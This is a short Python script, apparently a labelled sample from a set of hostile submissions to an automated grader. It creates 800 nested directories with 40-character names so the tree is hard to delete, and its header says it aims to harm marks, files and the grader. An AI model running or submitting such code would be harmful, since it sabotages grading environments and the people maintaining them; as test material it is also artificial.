# tries: to nest folders so deeply that whoever removes them gives up
# points: 0
# harm: marks, files, grader
import os

for _ in range(800):
    os.mkdir("d" * 40)
    os.chdir("d" * 40)
